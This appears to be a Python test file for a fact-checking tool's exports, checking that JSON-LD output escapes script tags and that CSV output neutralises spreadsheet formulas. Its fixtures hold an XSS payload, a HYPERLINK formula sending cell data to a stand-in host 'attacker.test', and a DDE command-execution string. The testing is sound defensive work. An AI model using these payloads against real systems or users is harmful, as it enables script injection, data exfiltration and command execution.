"""Issue 12, items 5 and 9: what factcheck writes out cannot run as script or as a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from sqlmodel import Session, select

from factcheck.articles import add_article
from factcheck.claims import ClaimFilter
from factcheck.db import get_engine
from factcheck.exports import export_bytes
from factcheck.models import Claim, Role, Status
from tests.factories import decide, found_in, make_user
from tests.test_cli import factcheck

PAYLOAD = 'The mayor said "</script><img src=x onerror=alert(document.domain)><!--" at 1,200 homes.'


def test_claimreview_json_ld_cannot_close_its_script_tag(session: Session) -> None:
    editor = make_user(session, role=Role.EDITOR)
    text = f"Storm damage was reported across the valley. {PAYLOAD} Crews are out."
    article = add_article(
        session,
        title="Storm </script><b>x</b>",
        text=text,
        by=editor,
        claims=[found_in(text, "1,200 homes", kind="numeric", value=1200, unit="homes")],
        outlet="Valley </script> Post",
    )
    claim_id = session.exec(select(Claim.id).where(Claim.article_id == article.id)).one()
    assert claim_id is not None
    decide(session, claim_id=claim_id, status=Status.VERIFIED, by=editor, seen_version=1)
    out = export_bytes(session, fmt="claimreview", where=ClaimFilter(), by=editor).decode()
    for markup in ("<", ">", "&"):
        assert markup not in out
    (review,) = json.loads(out)  # the same data once parsed
    assert "</script><img src=x onerror=alert(document.domain)><!--" in review["claimReviewed"]
    assert review["itemReviewed"]["author"]["name"] == "Valley </script> Post"


def test_claims_csv_on_the_command_line_guards_formulas(sqlite_db: str, tmp_path: Path) -> None:
    with Session(get_engine(sqlite_db)) as session:
        reviewer = make_user(session, role=Role.REVIEWER)
        text = (
            '=HYPERLINK("http://attacker.test/?"&A1,"Click") said 40 people left. '
            "@SUM(1+1) reported 12 cases. -2+3 was the count of 7 boats."
        )
        add_article(
            session,
            title="=cmd|' /C calc'!A0",
            text=text,
            by=reviewer,
            claims=[
                found_in(text, "40 people", kind="numeric", value=40, unit="people"),
                found_in(text, "12 cases", kind="numeric", value=12, unit="cases"),
                found_in(text, "7 boats", kind="numeric", value=7, unit="boats"),
            ],
        )
    done = factcheck(sqlite_db, "claims", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert len(rows) == 3
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert rows[0]["article_title"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["sentence"].startswith("'=HYPERLINK(")
